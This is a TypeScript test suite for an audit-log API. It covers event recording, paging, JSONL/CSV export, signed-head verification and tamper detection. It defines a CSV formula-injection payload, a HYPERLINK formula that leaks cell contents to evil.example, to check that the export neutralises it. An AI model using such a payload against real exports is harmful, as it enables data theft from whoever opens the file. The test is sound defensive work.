/**
 * Contract §3 Audit over HTTP: the account and org events this issue produces are written with
 * IP and user agent; listing pages and filters; the signed head verifies against the JWKS; the
 * CSV export is neutralised (E1); and tampering done as the table owner shows up in
 * /audit/verify at the exact seq, a cut tail only against an earlier signed head (L4 via HTTP).
 */
import { createPublicKey, verify as edVerify } from 'node:crypto';
import Papa from 'papaparse';
import { generate } from 'otplib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canonicalJson } from '../../shared/crypto/signing';
import { createAccount, inviteAndJoin, PASSWORD, type Account } from '../support/factories';
import { nextIp, startHarness, type Harness } from '../support/harness';

const HOSTILE_AGENT = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
let h: Harness;
let admin: Account;
let member: Account;
type Entry = { seq: number; event: string; ip: string | null; userAgent: string | null; orgId: string; hash: string; metadata: Record<string, unknown> };
const entries = async (query = 'limit=500'): Promise<{ entries: Entry[]; nextCursor: string | null }> =>
  (await h.request('GET', `/audit?${query}`, { token: admin.accessToken })).body;

beforeAll(async () => {
  h = await startHarness({ kind: 'pglite' });
  admin = await createAccount(h);
  await h.request('POST', '/auth/login', { body: { email: admin.email, password: 'definitely not it' }, ip: nextIp() });
  await h.request('PATCH', '/org', { token: admin.accessToken, body: { gdprCheckEnabled: false }, headers: { 'user-agent': HOSTILE_AGENT } });
  member = await inviteAndJoin(h, admin, 'member');
  const setup = await h.request('POST', '/auth/2fa/setup', { token: member.accessToken });
  const enabled = await h.request('POST', '/auth/2fa/enable', { token: member.accessToken, body: { code: await generate({ secret: setup.body.secret, epoch: Math.floor(h.clock.now() / 1000) }) } });
  await h.request('POST', '/auth/2fa/disable', { token: member.accessToken, body: { code: enabled.body.backupCodes[0] } });
  const refreshed = await h.request('POST', '/auth/refresh', { body: { refreshToken: member.refreshToken } });
  expect(refreshed.status).toBe(200);
  await h.request('POST', '/auth/refresh', { body: { refreshToken: member.refreshToken } }); // reuse → session revoked
  const again = await h.request('POST', '/auth/login', { body: { email: member.email, password: PASSWORD }, ip: nextIp() });
  await h.request('POST', '/auth/logout', { token: again.body.accessToken });
});
afterAll(async () => {
  await h?.close();
});

describe('audit events and reads', () => {
  it('records every account and org event of this issue, with IP and user agent', async () => {
    const { entries: all } = await entries();
    const events = new Set(all.map((e) => e.event));
    for (const e of ['register', 'email_verified', 'login', 'login_failed', 'logout', '2fa_enabled', '2fa_disabled', 'invitation_created', 'member_joined', 'org_updated', 'gdpr_check_disabled', 'session_revoked']) {
      expect(events, e).toContain(e);
    }
    expect(all.every((e) => e.orgId === admin.orgId && /^127\./.test(e.ip ?? ''))).toBe(true);
    expect(all.find((e) => e.event === 'gdpr_check_disabled')?.userAgent).toBe(HOSTILE_AGENT);
    expect(JSON.stringify(all)).not.toContain(member.email);
    expect(JSON.stringify(all)).not.toContain(PASSWORD);
  });

  it('pages newest first with a cursor and filters by event', async () => {
    const { entries: all } = await entries();
    const first = await entries('limit=3');
    expect(first.entries.map((e) => e.seq)).toEqual(all.slice(0, 3).map((e) => e.seq));
    const second = await entries(`limit=3&cursor=${first.nextCursor}`);
    expect(second.entries.map((e) => e.seq)).toEqual(all.slice(3, 6).map((e) => e.seq));
    const logins = await entries('event=login');
    expect(logins.entries.length).toBeGreaterThanOrEqual(2);
    expect(logins.entries.every((e) => e.event === 'login')).toBe(true);
    expect((await h.request('GET', '/audit?event=nope', { token: admin.accessToken })).status).toBe(400);
  });

  it('exports jsonl and a neutralised CSV that re-parses to the same entries', async () => {
    const { entries: all } = await entries();
    const jsonl = await h.request('GET', '/audit/export?format=jsonl', { token: admin.accessToken });
    expect(jsonl.headers['content-type']).toMatch(/application\/x-ndjson/);
    expect(jsonl.text.trim().split('\n').map((l) => JSON.parse(l).seq)).toEqual(all.map((e) => e.seq).reverse());
    const csv = await h.request('GET', '/audit/export?format=csv', { token: admin.accessToken });
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    expect(csv.headers['content-disposition']).toBe('attachment; filename="audit.csv"');
    const rows = Papa.parse<string[]>(csv.text.trim(), { newline: '\r\n' }).data;
    expect(rows[0]).toEqual(['seq', 'at', 'event', 'userId', 'orgId', 'ip', 'userAgent', 'metadata', 'prevHash', 'hash']);
    expect(rows).toHaveLength(all.length + 1);
    const hostile = rows.find((r) => r[2] === 'gdpr_check_disabled')!;
    expect(hostile[6]).toBe(`'${HOSTILE_AGENT}`);
  });
});

describe('verify and the signed head', () => {
  const verify = async (head?: unknown) =>
    (await h.request('GET', `/audit/verify${head ? `?head=${Buffer.from(JSON.stringify(head)).toString('base64url')}` : ''}`, { token: admin.accessToken })).body;

  it('verifies the chain and signs its head with a key published in the JWKS', async () => {
    const { entries: all } = await entries();
    expect(await verify()).toEqual({ ok: true, entries: all.length, headHash: all[0].hash });
    const head = (await h.request('GET', '/audit/head', { token: admin.accessToken })).body;
    expect(head.head).toMatchObject({ orgId: admin.orgId, seq: all[0].seq, hash: all[0].hash });
    const jwk = (await h.request('GET', '/.well-known/jwks.json')).body.keys.find((k: { kid: string }) => k.kid === head.keyId);
    const key = createPublicKey({ key: jwk, format: 'jwk' });
    expect(edVerify(null, Buffer.from(canonicalJson(head.head)), key, Buffer.from(head.signature, 'base64url'))).toBe(true);
    expect(await verify(head)).toMatchObject({ ok: true });
    expect(await verify({ ...head, head: { ...head.head, seq: head.head.seq - 1 } })).toMatchObject({ ok: false });
  });

  it('catches a cut tail only against an earlier signed head, and a rewritten row at its exact seq', async () => {
    const head = (await h.request('GET', '/audit/head', { token: admin.accessToken })).body;
    const n = head.head.seq as number;
    const tamper = (sql: string, params: unknown[]) =>
      h.owner.ownerTx(async (q) => {
        await q.query(`alter table audit_log disable trigger audit_log_no_update_delete`);
        await q.query(sql, params);
        await q.query(`alter table audit_log enable always trigger audit_log_no_update_delete`);
      });
    await tamper(`delete from audit_log where org_id = $1 and seq >= $2`, [admin.orgId, n - 1]);
    expect(await verify()).toMatchObject({ ok: true, entries: n - 2 });
    expect(await verify(head)).toEqual({ ok: false, brokenAt: n - 1, entries: n - 2 });
    await tamper(`update audit_log set metadata = '{"via":"forged"}'::jsonb where org_id = $1 and seq = 3`, [admin.orgId]);
    expect(await verify()).toEqual({ ok: false, brokenAt: 3, entries: 2 });
  });
});
